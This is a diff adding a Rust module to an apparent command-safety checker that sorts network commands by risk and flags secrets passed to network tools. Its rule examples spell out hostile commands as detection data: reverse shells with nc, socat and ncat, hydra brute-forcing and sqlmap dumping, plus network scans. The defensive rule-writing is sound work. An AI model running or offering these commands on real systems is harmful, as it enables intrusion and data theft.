@@ -1,0 +1,147 @@
+//! The network: fetching, sending, connecting, other machines, looking around and attacking.
+
+mod connections;
+mod probing;
+mod remote;
+mod transfer;
+mod web;
+
+pub(crate) use connections::tls_client;
+pub use connections::{from_connection, to_connection};
+use signoff_model::{EffectKind, Reversible, Risk, Span};
+
+use super::{
+    secrets,
+    tool::{self, Tool},
+};
+use crate::{
+    path_effects::rules,
+    rule::{Priority, Rule},
+    shell::{Call, Judge, Shell, rules as shell_rules},
+    value::{Feed, Origin, Value},
+};
+
+rules! {
+    CHANGE_REQUEST = Rule::new("change-request", EffectKind::NetworkWrite, Risk::High, "sends a request that changes something: {}", "发送会造成更改的请求：{}")
+        .examples(&["curl -X DELETE https://api.example.com/users/1", "http PUT example.com/x", "wget --method=DELETE https://example.com/x"], &["curl -X GET https://example.com", "curl -I https://example.com"]);
+    LOCAL_REQUEST = Rule::new("local-request", EffectKind::NetworkWrite, Risk::Low, "sends data to a server on this machine: {}", "向本机服务器发送数据：{}")
+        .reversible(Reversible::Unknown).priority(Priority::P2)
+        .examples(&["curl -d '{}' http://localhost:3000/api"], &["curl http://localhost:3000/api", "curl -d '{}' https://example.com/api"]);
+    OPTION_FILE = Rule::new("option-file", EffectKind::Opaque, Risk::Medium, "takes its targets and options from a file that cannot be read here: {}", "从无法读取的文件获取目标和选项：{}")
+        .examples(&["curl -K /tmp/curlrc"], &["curl -k https://example.com"]);
+    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives a shell on this machine to another one: {}", "把本机的 shell 交给另一台机器：{}")
+        .absurd().reversible(Reversible::No).priority(Priority::P0)
+        .examples(&["nc -e /bin/sh 203.0.113.7 4444", "socat TCP:203.0.113.7:4444 EXEC:/bin/bash", "ncat --sh-exec bash 203.0.113.7 80", "nc -lvp 4444 -e /bin/bash"], &["nc -zv localhost 80", "nc -h"]);
+    LISTEN = Rule::new("open-port", EffectKind::NetworkRead, Risk::Medium, "lets others connect to this machine: {}", "让其他机器连接到本机：{}")
+        .examples(&["nc -l 8080", "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80"], &["nc -z localhost 8080"]);
+    REMOTE_COMMAND = Rule::new("remote-command", EffectKind::NetworkWrite, Risk::Medium, "runs something on another machine: {}", "在另一台机器上运行：{}")
+        .examples(&["ssh web1 ./restart-app", "ssh web1", "ssh deploy@web1 'systemctl restart app'"], &["ssh web1 uptime", "ssh -V", "ssh -T git@github.com"]);
+    TUNNEL = Rule::new("tunnel", EffectKind::NetworkWrite, Risk::High, "opens a tunnel between this machine and another: {}", "在本机与另一台机器之间打开隧道：{}")
+        .examples(&["ssh -R 8080:localhost:80 host", "ssh -N -D 1080 host", "sshuttle -r host 10.0.0.0/8"], &["ssh host uptime"]);
+    GRANT_LOGIN = Rule::new("grant-login", EffectKind::Privilege, Risk::High, "lets a key log in to another machine: {}", "让密钥能登录另一台机器：{}")
+        .examples(&["ssh-copy-id user@host"], &["ssh-add -l", "ssh-copy-id -n user@host"]);
+    CHANGE_KEY = Rule::new("change-key", EffectKind::Overwrite, Risk::Medium, "changes an existing key: {}", "更改已有密钥：{}")
+        .examples(&["ssh-keygen -p -f ~/.ssh/id_ed25519", "ssh-keygen -A"], &["ssh-keygen -l -f ~/.ssh/id_ed25519.pub", "ssh-keygen -t ed25519"]);
+    SCAN = Rule::new("scan-network", EffectKind::NetworkWrite, Risk::High, "probes other machines: {}", "探测其他机器：{}")
+        .examples(&["nmap -sS 10.0.0.0/16", "gobuster dir -u https://example.com -w list.txt", "masscan 10.0.0.0/8 -p80"], &["nmap --version", "nmap -sL 10.0.0.0/30", "dig example.com"]);
+    ATTACK = Rule::new("attack", EffectKind::NetworkWrite, Risk::Critical, "attacks another machine or its accounts: {}", "攻击其他机器或其账户：{}")
+        .absurd().priority(Priority::P0)
+        .examples(&["hydra -l root -P words.txt ssh://203.0.113.7", "sqlmap -u http://target.example/?id=1 --dump --batch"], &["hydra -h", "sqlmap --version"]);
+    CAPTURE = Rule::new("capture-traffic", EffectKind::SecretRead, Risk::High, "listens to network traffic: {}", "监听网络流量：{}")
+        .examples(&["tcpdump -i eth0", "tshark -i any"], &["tcpdump -r x.pcap", "tshark -r x.pcap", "tcpdump -D"]);
+    PUBLISH_MESSAGE = Rule::new("publish-message", EffectKind::NetworkWrite, Risk::High, "sends a message to others: {}", "向他人发送消息：{}")
+        .reversible(Reversible::No)
+        .examples(&["mosquitto_pub -t a -m b", "nats pub subject x", "mail -s report all@example.com"], &["mosquitto_sub -t a", "nats sub subject"]);
+}
+
+static TABLES: [&&[Tool]; 2] = [&probing::TOOLS, &transfer::TOOLS];
+
+/// The judgement for a program of this family.
+pub fn find(name: &str) -> Option<Judge> {
+    web::find(name)
+        .or_else(|| connections::find(name))
+        .or_else(|| remote::find(name))
+        .or_else(|| probing::find(name))
+        .or_else(|| transfer::find(name))
+        .or_else(|| tabled(name).map(|_| judge as Judge))
+}
+
+fn tabled(name: &str) -> Option<&'static Tool> {
+    TABLES.iter().find_map(|tools| tool::find(tools, name))
+}
+
+fn judge(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    if carries_secret(shell, call) {
+        return Feed::none();
+    }
+    match tabled(&call.name) {
+        Some(described) => {
+            let sent = shell.findings.risk();
+            let out = tool::judge(shell, call, described);
+            // A message whose content flows in may carry a secret.
+            if shell.findings.risk() > sent && call.stdin.secret().is_some() {
+                shell.send(&call.name, std::iter::empty(), &call.stdin, call.span);
+            }
+            out
+        }
+        None => Feed::none(),
+    }
+}
+
+/// Says so when an argument of a network tool holds a secret: it would be on its way.
+fn carries_secret(shell: &mut Shell<'_>, call: &Call) -> bool {
+    let found = call.args.iter().find_map(|arg| secret_in(&arg.value).map(|secret| (secret, arg.span)));
+    match found {
+        Some((secret, span)) => {
+            tell_secret(shell, &secret, &call.name, span);
+            true
+        }
+        None => false,
+    }
+}
+
+fn tell_secret(shell: &mut Shell<'_>, secret: &str, to: &str, span: Span) {
+    shell.tell(&shell_rules::SEND_SECRET, format!("{secret} → {to}"), span);
+}
+
+/// The secret in a value: the content of a secret file, or a variable whose name says that its value is one.
+fn secret_in(value: &Value) -> Option<String> {
+    value.origins().find_map(|origin| match origin {
+        Origin::Secret(name) => Some(name.clone()),
+        Origin::Variable(name) if secrets::is_grave_variable(name) => Some(format!("${name}")),
+        _ => None,
+    })
+}
+
+/// Where an address leads.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Reach {
+    /// To this machine.
+    Local,
+    /// To another machine, or it is not known.
+    Elsewhere,
+}
+
+/// Tells where a URL or a host leads.
+fn reach(address: &str) -> Reach {
+    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+    let host = match host.strip_prefix('[') {
+        Some(inner) => inner.split(']').next().unwrap_or(inner),
+        None if host.matches(':').count() > 1 => host,
+        None => host.split(':').next().unwrap_or(host),
+    };
+    let local = matches!(host, "localhost" | "::1" | "0.0.0.0" | "" | "ip6-localhost" | "host.docker.internal")
+        || host.starts_with("127.")
+        || host.ends_with(".localhost");
+    if local && !(host.is_empty() && !authority.starts_with(':')) { Reach::Local } else { Reach::Elsewhere }
+}
+
+/// Whether the way to a URL is encrypted. A URL without a scheme is plain HTTP to most tools.
+fn is_encrypted(url: &str) -> bool {
+    ["https://", "ftps://", "sftp://", "scp://", "wss://"].iter().any(|scheme| url.starts_with(scheme))
+}
+
+#[cfg(test)]
+mod tests;
